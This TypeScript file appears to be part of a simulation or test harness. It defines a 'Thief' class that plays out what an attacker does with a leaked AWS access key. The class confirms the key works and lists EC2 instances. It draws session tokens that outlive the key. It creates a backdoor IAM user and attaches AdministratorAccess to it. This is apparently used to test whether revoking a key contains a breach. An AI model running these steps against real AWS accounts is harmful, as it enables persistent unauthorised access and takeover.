import { DescribeInstancesCommand, EC2Client } from "@aws-sdk/client-ec2";
import { AttachUserPolicyCommand, CreateUserCommand, IAMClient } from "@aws-sdk/client-iam";
import { GetCallerIdentityCommand, GetSessionTokenCommand, STSClient } from "@aws-sdk/client-sts";
import { PARTITION } from "embedded-aws";
import { arnAt } from "../../protocol/index.ts";
import { type Key, LEFT_BEHIND } from "./deployer.ts";

/** What AWS says to a call: that it is done, or the name of the error by which it is refused. */
export type Answer = string;
export const DONE = "done";

/** An answer as it is told. */
export function toldOf(answer: Answer): string {
  return answer === DONE ? DONE : `refused (${answer})`;
}

/** What he gives himself, or would. */
const EVERYTHING = arnAt({ partition: PARTITION, account: "aws" }, "iam", "policy/AdministratorAccess");

/** Whoever has found an access key: what he does with it, over the AWS SDK, as such people do. */
export class Thief {
  readonly #place: { endpoint: string; region: string };
  readonly #tell: (sentence: string) => void;
  readonly #sts: STSClient;
  readonly #iam: IAMClient;
  /** With the key, and with the session that he has drawn. */
  readonly #ec2: EC2Client;
  #session: EC2Client | undefined;

  /**
   * @param aws where AWS is
   * @param tell told of each call, but for those that only try whether the key is open
   */
  constructor(
    { endpoint, region }: { endpoint: string; region: string },
    credentials: Key,
    tell: (sentence: string) => void,
  ) {
    this.#place = { endpoint, region };
    const config = { ...this.#place, credentials };
    this.#sts = new STSClient(config);
    this.#iam = new IAMClient(config);
    this.#ec2 = new EC2Client(config);
    this.#tell = tell;
  }

  /** He asks whose the key is, and what there is. */
  async lookAround(): Promise<void> {
    await this.#does("sts:GetCallerIdentity", this.#sts.send(new GetCallerIdentityCommand()));
    await this.#does("ec2:DescribeInstances", this.#ec2.send(new DescribeInstancesCommand()));
  }

  /** He draws temporary credentials, which outlive the key, and uses them. */
  async drawSession(): Promise<void> {
    const drawn = this.#sts.send(new GetSessionTokenCommand({}));
    await this.#does("sts:GetSessionToken", drawn);
    const { AccessKeyId = "", SecretAccessKey = "", SessionToken = "" } = (await drawn).Credentials ?? {};
    const credentials = { accessKeyId: AccessKeyId, secretAccessKey: SecretAccessKey, sessionToken: SessionToken };
    this.#session = new EC2Client({ ...this.#place, credentials });
    this.#tell(`THIEF   ec2:DescribeInstances with the session ${AccessKeyId}: ${toldOf(await this.trySession())}.`);
  }

  /** He makes a user for himself, and tries to have it allowed everything. */
  async stay(): Promise<void> {
    const UserName = LEFT_BEHIND;
    await this.#does("iam:CreateUser", this.#iam.send(new CreateUserCommand({ UserName })));
    const attach = new AttachUserPolicyCommand({ UserName, PolicyArn: EVERYTHING });
    await this.#does("iam:AttachUserPolicy", this.#iam.send(attach));
  }

  /** Whether the key is open: everybody whose key is may ask who he is. */
  tryKey(): Promise<Answer> {
    return answerTo(this.#sts.send(new GetCallerIdentityCommand()));
  }

  /** Whether his session may do what the key's user may. */
  trySession(): Promise<Answer> {
    if (this.#session === undefined) throw new Error("the thief has drawn no session");
    return answerTo(this.#session.send(new DescribeInstancesCommand()));
  }

  close(): void {
    for (const client of [this.#sts, this.#iam, this.#ec2, this.#session]) client?.destroy();
  }

  async #does(call: string, made: Promise<unknown>): Promise<void> {
    this.#tell(`THIEF   ${call} with the key: ${toldOf(await answerTo(made))}.`);
  }
}

async function answerTo(call: Promise<unknown>): Promise<Answer> {
  try {
    await call;
    return DONE;
  } catch (error) {
    return (error as Error).name;
  }
}
